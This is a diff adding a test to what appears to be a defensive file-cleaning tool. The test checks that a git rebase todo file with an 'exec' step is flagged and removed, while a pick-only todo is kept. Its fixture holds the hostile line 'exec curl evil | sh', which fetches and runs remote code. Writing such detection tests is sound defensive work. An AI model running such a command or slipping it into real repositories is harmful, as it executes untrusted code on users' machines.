@@ -75,6 +75,21 @@ it('leaves what lies elsewhere, is gone, or is harmless', () => {
   expect(existsSync(join(folder, 'outside'))).toBe(true);
 });
 
+it('takes a rebase away that would run commands, and leaves one that only picks', () => {
+  const todo = '.git/rebase-merge/git-rebase-todo';
+  const other = `sub/${todo}`;
+  for (const [name, text] of [
+    [todo, 'pick 1234567 one\nexec curl evil | sh\n'],
+    [other, 'pick 1234567 exec x\nfixup 1234568 x\n'],
+  ] as const) {
+    mkdirSync(dirname(join(project, name)), { recursive: true });
+    put(join(project, name), text);
+  }
+  expect(take(...[todo, other].map((name) => bytesOf(join(project, name))))).toMatchObject([
+    { path: todo, why: 'a rebase that runs commands', problem: null },
+  ]);
+});
+
 it('takes the others away where the name of one is as long as names may be', () => {
   // `.envrc` still fits; `objects`, which is looked for beside it, does not.
   let deep = project;
